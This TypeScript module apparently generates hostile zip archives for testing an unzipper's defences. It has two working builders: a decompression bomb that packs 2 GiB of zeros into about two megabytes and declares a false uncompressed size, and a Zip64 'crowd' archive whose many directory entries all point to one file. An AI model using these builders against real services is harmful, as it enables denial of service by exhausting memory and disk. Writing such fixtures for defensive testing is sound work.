/** Zip files as nobody makes them who means well. Record layouts: PKWARE's APPNOTE 6.3.10, 4.3.12 to 4.3.16. */
import { constants, deflateRawSync } from 'node:zlib';
import { BlobWriter, Uint8ArrayReader, ZipWriter } from '@zip.js/zip.js';

/** Zeros that one block of a bomb unpacks to. */
const BLOCK_BYTES = 2 ** 24;

/** Two megabytes that unpack to 2 GiB as the file `name`; `says` is the size that the zip declares. */
export async function bomb(says: number, name = 'bomb.txt'): Promise<Blob> {
  const block = deflateRawSync(new Uint8Array(BLOCK_BYTES), { finishFlush: constants.Z_FULL_FLUSH });
  const blocks = Array.from({ length: 2 ** 31 / BLOCK_BYTES }, () => block);
  const data = Buffer.concat([...blocks, deflateRawSync('')]);
  const writer = new ZipWriter(new BlobWriter(), { useWebWorkers: false });
  await writer.add(name, new Uint8ArrayReader(data), {
    passThrough: true,
    compressionMethod: 8,
    signature: 0,
    uncompressedSize: says,
  });
  return writer.close();
}

/** `count` empty files in the Zip64 format (more than 65 535 need it); all their names lead to the same one. */
export function crowd(count: number): Blob {
  const file = Buffer.alloc(30);
  file.writeUInt32LE(0x04034b50, 0);
  const records = Array.from({ length: count }, (_, i) => {
    const name = Buffer.from(`${i}.txt`);
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(name.length, 28);
    return Buffer.concat([header, name]);
  });
  const directory = Buffer.concat(records);
  const end64 = Buffer.alloc(56);
  end64.writeUInt32LE(0x06064b50, 0);
  end64.writeBigUInt64LE(44n, 4);
  end64.writeBigUInt64LE(BigInt(count), 24);
  end64.writeBigUInt64LE(BigInt(count), 32);
  end64.writeBigUInt64LE(BigInt(directory.length), 40);
  end64.writeBigUInt64LE(BigInt(file.length), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(file.length + directory.length), 8);
  locator.writeUInt32LE(1, 16);
  const end = Buffer.alloc(22, 0xff);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt32LE(0, 4);
  end.writeUInt16LE(0, 20);
  return new Blob([file, directory, end64, locator, end]);
}
